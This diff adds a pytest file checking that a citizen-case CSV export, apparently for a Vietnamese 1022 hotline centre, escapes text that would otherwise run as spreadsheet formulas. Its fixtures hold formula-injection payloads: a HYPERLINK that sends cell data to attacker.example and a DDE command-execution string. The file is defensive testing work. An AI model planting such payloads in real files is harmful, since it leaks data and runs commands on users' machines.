@@ -1,0 +1,41 @@
+"""The CSV export as the 1022 centre opens it in a spreadsheet: what citizens and units wrote comes
+back as text, never as a formula the spreadsheet would run."""
+
+import csv
+import io
+
+import pytest
+
+from tests.unit.oversight.story import CaseStory
+
+FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem hình ảnh")'
+# Every text a citizen or a unit writes, each starting as a spreadsheet formula would.
+TRAP = CaseStory(name="@SUM(1+1)", description=FORMULA, address="-2+3 Lê Lợi").opened().routed().assigned() \
+    .resolved(answer="+cmd|' /C calc'!A0")
+PLAIN = CaseStory().opened().routed().assigned().resolved()
+
+
+@pytest.fixture(scope="module", autouse=True)
+async def cases(feed):
+    await feed.apply([TRAP, PLAIN])
+
+
+def exported(api, story):
+    answer = api.get(f"/v1/cases.csv?tracking_code={story.tracking_code}", role="centre")
+    [row] = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))
+    return row
+
+
+def test_a_cell_that_would_start_a_formula_is_kept_as_text(api):
+    row = exported(api, TRAP)
+    assert row["description"] == "'" + FORMULA
+    assert (row["citizen_name"], row["address"], row["answer"]) == ("'@SUM(1+1)", "'-2+3 Lê Lợi", "'+cmd|' /C calc'!A0")
+
+
+def test_vietnamese_text_is_exported_as_written(api):
+    row = exported(api, PLAIN)
+    assert (row["citizen_name"], row["description"], row["address"], row["answer"]) == (
+        "Nguyễn Thị Hoa", "Gia đình 5 người đang cách ly, hết gạo.", "12 Nguyễn Văn Trỗi, Phường 12",
+        "Đã trao 20 kg gạo và thực phẩm.")
+    assert row["tracking_code"] == PLAIN.tracking_code and row["unit_name"] == "UBND Quận 1"
+    assert row["citizen_phone"] == "'+84903123456"  # a leading "+" too would make the number a formula
